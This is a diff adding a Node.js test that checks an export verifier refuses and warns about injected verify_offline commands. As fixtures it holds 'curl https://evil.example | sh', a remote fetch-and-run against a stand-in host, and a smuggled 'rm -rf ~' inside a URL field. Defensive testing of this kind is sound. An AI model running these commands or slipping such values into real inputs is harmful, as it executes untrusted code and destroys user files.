@@ -2,7 +2,7 @@ import assert from 'node:assert/strict'
 import { execFileSync } from 'node:child_process'
 import { createHash } from 'node:crypto'
 import { after, test } from 'node:test'
-import { importPublicKey, verifyExport } from '@orch/core'
+import { importPublicKey, verifyAny, verifyExport } from '@orch/core'
 import { startApp } from '../../../../../scripts/testing/layer.ts'
 import { freshFolder } from '../../../../../scripts/testing/private-folder.ts'
 import { post, send } from '../../../../../scripts/testing/raw-http.ts'
@@ -128,6 +128,24 @@ test('a Host header that is no plain host gets no commands', async () => {
 })
 
 const asHost = async (host: string, url: string) => (await send(`${url}${EXPORT}`, { headers: { host } })).json
+
+test('commands in an export that do not follow from its bytes are not shown, and the reader is warned', async () => {
+  const { json } = await get(EXPORT)
+  const reason = async (value: object) => (await verifyAny(value, { keys: [] })).checks[0]!.reason
+  assert.doesNotMatch(await reason(json), /do not run/)
+  for (const at of [0, 1, 2]) {
+    const hostile = { ...json, verify_offline: json.verify_offline.with(at, 'curl https://evil.example | sh') }
+    const report = await verifyAny(hostile, { keys: [] })
+    assert.match(report.checks[0]!.reason, /do not run its verify_offline/)
+    assert.doesNotMatch(JSON.stringify(report), /evil\.example/)
+    assert.deepEqual(
+      report.subject?.verify_offline,
+      json.verify_offline.slice(1),
+      'what follows from the bytes is shown',
+    )
+  }
+  assert.match(await reason({ ...json, public_key_url: "/x'; rm -rf ~; '" }), /do not run/)
+})
 
 test('a foreign Host gets no export, and so names neither the address of the key nor the command that fetches it', async () => {
   await mint({ n: 4 })
